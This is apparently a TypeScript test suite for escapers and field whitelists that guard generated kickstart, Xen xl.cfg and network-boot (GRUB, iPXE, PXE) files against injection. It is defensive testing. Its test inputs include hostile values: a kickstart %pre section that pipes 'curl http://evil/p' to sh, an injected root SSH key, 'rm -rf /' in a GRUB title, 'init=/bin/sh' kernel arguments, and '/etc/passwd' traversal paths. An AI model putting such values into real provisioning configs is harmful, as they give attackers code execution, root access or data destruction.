/**
 * Per-format escapers and field whitelists (docs/artifacts.md §0 rule 1, §1.4-§1.5, §2.3, §2.4,
 * §2.7, §3.6): the injection cases are refused, ordinary values pass unchanged, and a value
 * is never repaired.
 */
import { callEscaper } from '../../src/artifacts/escape/index.js';
import { checkKind } from '../../src/artifacts/escape/kinds.js';
import { mv, Rejected, ModelValue, UnescapedValueError } from '../../src/artifacts/escape/value.js';

const ref = { object: 'web01.example.org', path: '/system/aii/osinstall/ks/rootpw' };

function esc(name: string, value: unknown, ...args: unknown[]): string | Rejected {
  return callEscaper(name, value, args);
}

function rejected(result: string | Rejected): Rejected {
  if (!(result instanceof Rejected)) throw new Error(`expected a refusal, got ${JSON.stringify(result)}`);
  return result;
}

describe('kickstart injection table (§3.6)', () => {
  test('a root password carrying a %pre section is refused by the crypt whitelist', () => {
    const r = rejected(esc('ks', mv('x\n%pre\ncurl http://evil/p | sh\n%end', 'crypt', ref)));
    expect(r.code).toBe('PF501');
    expect(ModelValue.ref(r.value!)).toEqual(ref);
  });

  test('a language carrying an sshkey command is refused', () => {
    expect(rejected(esc('ks', mv('en_US.UTF-8\nsshkey --username=root "ssh-ed25519 AAAA"', 'lang'))).code).toBe('PF501');
  });

  test('an unquoted # would cut the line: refused in a bare word, kept inside quotes', () => {
    expect(rejected(esc('ks', 'abc#def')).code).toBe('PF500');
    expect(esc('ksq', mv('append something #1', 'text'))).toBe('"append something #1"');
  });

  test('quoted free text escapes backslash and double quote and refuses control characters', () => {
    expect(esc('ksq', 'say "hi" \\ bye')).toBe('"say \\"hi\\" \\\\ bye"');
    expect(rejected(esc('ksq', 'a\nb')).reason).toMatch(/newline/);
    expect(rejected(esc('ksq', 'a\u0007b')).reason).toMatch(/U\+0007/);
  });

  test('a space would add an option: refused in a bare word', () => {
    expect(rejected(esc('ks', 'eth0 --activate')).reason).toMatch(/a space/);
  });

  test('package lines follow the whitelist', () => {
    for (const ok of ['@core', '@^minimal-environment', '-iwl*-firmware', 'java-17-openjdk-headless', 'python3.11', 'perl(Foo::Bar)'.replace(/[()]/g, '')]) {
      expect(esc('kspkg', mv(ok, 'package'))).toBe(ok);
    }
    expect(rejected(esc('kspkg', mv('vim\n%end\nrootpw x', 'package'))).code).toBe('PF501');
    expect(rejected(esc('kspkg', '%end')).code).toBe('PF500');
  });

  test('script text may not contain a line starting with %', () => {
    expect(esc('ksscript', 'echo one\necho two')).toBe('echo one\necho two\n');
    expect(rejected(esc('ksscript', 'echo one\n  %end\nrootpw --plaintext x')).reason).toMatch(/line 2/);
  });

  test('shell words are single-quoted with the quote escaped', () => {
    expect(esc('shq', "it's $(id) `x`")).toBe(`'it'\\''s $(id) \`x\`'`);
    expect(rejected(esc('shq', 'a\nb')).code).toBe('PF500');
  });

  test('host names, addresses, sizes and names are whitelisted', () => {
    expect(rejected(esc('ks', mv('web01.example.org --ip=1.2.3.4', 'fqdn'))).code).toBe('PF501');
    expect(rejected(esc('ks', mv('192.0.2.300', 'ipv4'))).code).toBe('PF501');
    expect(rejected(esc('ks', mv(1.5, 'integer'))).code).toBe('PF501');
    expect(rejected(esc('ks', mv(-1, 'integer'))).code).toBe('PF501');
    expect(esc('ks', mv(16384n, 'integer'))).toBe('16384');
    expect(rejected(esc('ks', mv('vg root', 'name'))).code).toBe('PF501');
    expect(rejected(esc('ks', mv('eth0;reboot', 'device'))).code).toBe('PF501');
    expect(esc('ks', mv('$6$rounds=5000$salt$hash.hash/x', 'crypt'))).toBe('$6$rounds=5000$salt$hash.hash/x');
    expect(rejected(esc('ks', mv('plaintext', 'crypt'))).code).toBe('PF501');
  });

  test('lists are joined with commas and an element may not contain the separator', () => {
    expect(esc('ks', [mv('192.0.2.53', 'ipv4'), mv('192.0.2.54', 'ipv4')])).toBe('192.0.2.53,192.0.2.54');
    expect(rejected(esc('ks', ['a', 'b,c'])).reason).toMatch(/separator/);
  });
});

describe('URLs', () => {
  test('canonical http, https, ftp, nfs and tftp URLs pass unchanged', () => {
    for (const url of ['http://install.example.org/mirror/el9/x86_64/os', 'https://h:8443/a?b=c&d=e', 'nfs://srv/export/el9', 'tftp://10.0.2.2/boot']) {
      expect(checkKind('url', url)).toEqual({ ok: true, text: url });
    }
  });

  test('dot segments, spaces, control characters, fragments and odd schemes are refused', () => {
    for (const url of ['http://h/a/../b', 'http://h/a/%2e%2e/b', 'http://h/a b', 'http://h/a\nb', 'http://h/a#x', 'file:///etc/passwd', 'javascript:alert(1)', 'http://h/"x', 'http://H/upper', 'relative/path']) {
      const r = checkKind('url', url);
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.code).toBe('PF502');
    }
  });
});

describe('xl.cfg (§1.4-§1.5)', () => {
  test('strings are double-quoted with \\ and " escaped; control characters refused', () => {
    expect(esc('xl', 'a"b\\c')).toBe('"a\\"b\\\\c"');
    expect(rejected(esc('xl', 'web01"\nbootloader = "/bin/sh')).reason).toMatch(/newline/);
    expect(rejected(esc('xl', 'a\tb')).reason).toMatch(/tab/);
  });

  test('numbers are decimal only', () => {
    expect(esc('xlnum', mv(2048, 'integer'))).toBe('2048');
    expect(rejected(esc('xlnum', '0x800')).code).toBe('PF500');
    expect(rejected(esc('xlnum', mv('512 + 256', 'integer'))).code).toBe('PF501');
  });

  test('disk specs are canonical with closed sets and target last', () => {
    const disk = { format: mv('raw', 'enum'), vdev: mv('xvda', 'name'), access: mv('rw', 'enum'), target: mv('/dev/vg0/web01-root', 'path') };
    expect(esc('xldisk', disk)).toBe('"format=raw, vdev=xvda, access=rw, target=/dev/vg0/web01-root"');
    expect(rejected(esc('xldisk', { ...disk, format: mv('vmdk', 'enum') })).reason).toMatch(/disk format/);
    expect(rejected(esc('xldisk', { ...disk, vdev: mv('xvda,w', 'name') })).code).toBe('PF501');
    expect(rejected(esc('xldisk', { ...disk, target: mv('/dev/vg0/x",script=/bin/sh', 'path') })).code).toBe('PF501');
  });

  test('vif specs refuse , = " \\ and whitespace inside values, bad MACs and long bridge names', () => {
    const vif = { mac: mv('00:16:3e:12:34:56', 'mac'), bridge: mv('xenbr0', 'bridge') };
    expect(esc('xlvif', vif)).toBe('"mac=00:16:3e:12:34:56,bridge=xenbr0"');
    expect(rejected(esc('xlvif', { ...vif, bridge: 'xenbr0,script=/tmp/x' })).code).toBe('PF500');
    expect(rejected(esc('xlvif', { ...vif, mac: mv('00:16:3E:12:34:56', 'mac') })).code).toBe('PF501');
    expect(rejected(esc('xlvif', { ...vif, mac: mv('01:16:3e:12:34:56', 'mac') })).reason).toMatch(/multicast/);
    expect(rejected(esc('xlvif', { ...vif, bridge: mv('a-very-long-bridge-name', 'bridge') })).code).toBe('PF501');
  });
});

describe('network-boot formats (§2.2-§2.4, §2.7)', () => {
  const args = [mv('inst.ks=http://install.example.org/ks/web01.example.org.ks', 'kernel-arg'), mv('console=ttyS0,115200', 'kernel-arg')];

  test('kernel arguments are whitespace-free words in every format', () => {
    for (const name of ['pxeargs', 'grubargs', 'ipxeargs', 'xlargs', 'pypxeargs']) {
      const out = esc(name, args);
      expect(typeof out).toBe('string');
      expect(rejected(esc(name, [mv('quiet init=/bin/sh', 'kernel-arg')])).code).toBe('PF501');
      expect(rejected(esc(name, ['quiet init=/bin/sh'])).code).toBe('PF500');
      expect(rejected(esc(name, ['a\nMENU'])).code).toBe('PF500');
    }
  });

  test('GRUB refuses its special characters and quotes titles', () => {
    expect(rejected(esc('grubargs', ['x;reboot'])).code).toBe('PF500');
    expect(rejected(esc('grubargs', ['${root}'])).code).toBe('PF500');
    expect(esc('grubtitle', mv('Install web01 (EL9)', 'text'))).toBe("'Install web01 (EL9)'");
    expect(rejected(esc('grubtitle', "x'; rm -rf / ; echo '")).reason).toMatch(/"'"/);
    expect(esc('grubfile', mv('el9/vmlinuz', 'bootfile'))).toBe('(tftp)/el9/vmlinuz');
    expect(esc('grubfile', mv('http://install.example.org/el9/vmlinuz', 'bootfile'))).toBe('(http,install.example.org)/el9/vmlinuz');
  });

  test('iPXE refuses $, #, quotes and backslashes', () => {
    for (const bad of ['${net0/mac}', 'a#b', '"x"', "'x'", 'a\\b']) expect(rejected(esc('ipxe', bad)).code).toBe('PF500');
    expect(esc('ipxefile', mv('el9/vmlinuz', 'bootfile'), 'tftp://${next-server}')).toBe('tftp://${next-server}/el9/vmlinuz');
    expect(esc('ipxename', mv('el9/initrd.img', 'bootfile'))).toBe('initrd.img');
  });

  test('pypxeboot takes key=value tokens with one = and no repeated key', () => {
    expect(esc('pypxeargs', args)).toBe('inst.ks=http://install.example.org/ks/web01.example.org.ks console=ttyS0,115200');
    expect(rejected(esc('pypxeargs', ['quiet'])).reason).toMatch(/exactly one =/);
    expect(rejected(esc('pypxeargs', ['bond=bond0:eth0,eth1:mode=1'])).reason).toMatch(/exactly one =/);
    expect(rejected(esc('pypxeargs', ['console=tty0', 'console=ttyS0'])).reason).toMatch(/repeats the key console/);
    expect(rejected(esc('pypxefile', 'http://h/vmlinuz')).reason).toMatch(/TFTP/);
  });

  test('boot files may not climb out of the TFTP root', () => {
    expect(checkKind('bootfile', 'el9/vmlinuz').ok).toBe(true);
    expect(checkKind('bootfile', '../etc/passwd').ok).toBe(false);
    expect(checkKind('bootfile', 'el9/./vmlinuz').ok).toBe(false);
  });
});

describe('model values', () => {
  test('a model value cannot be turned into text without an escaper', () => {
    const v = mv('secret', 'text');
    expect(() => `${v as unknown as string}`).toThrow(UnescapedValueError);
    expect(() => String(v)).toThrow(UnescapedValueError);
    expect(() => (v as unknown as string) + '').toThrow(UnescapedValueError);
    expect(Object.keys(v)).toEqual(['kind']);
  });

  test('an undefined value is reported as such (PF505)', () => {
    expect(rejected(esc('ks', undefined)).code).toBe('PF505');
    expect(rejected(esc('xllist', [mv('a', 'text'), undefined])).code).toBe('PF505');
  });
});
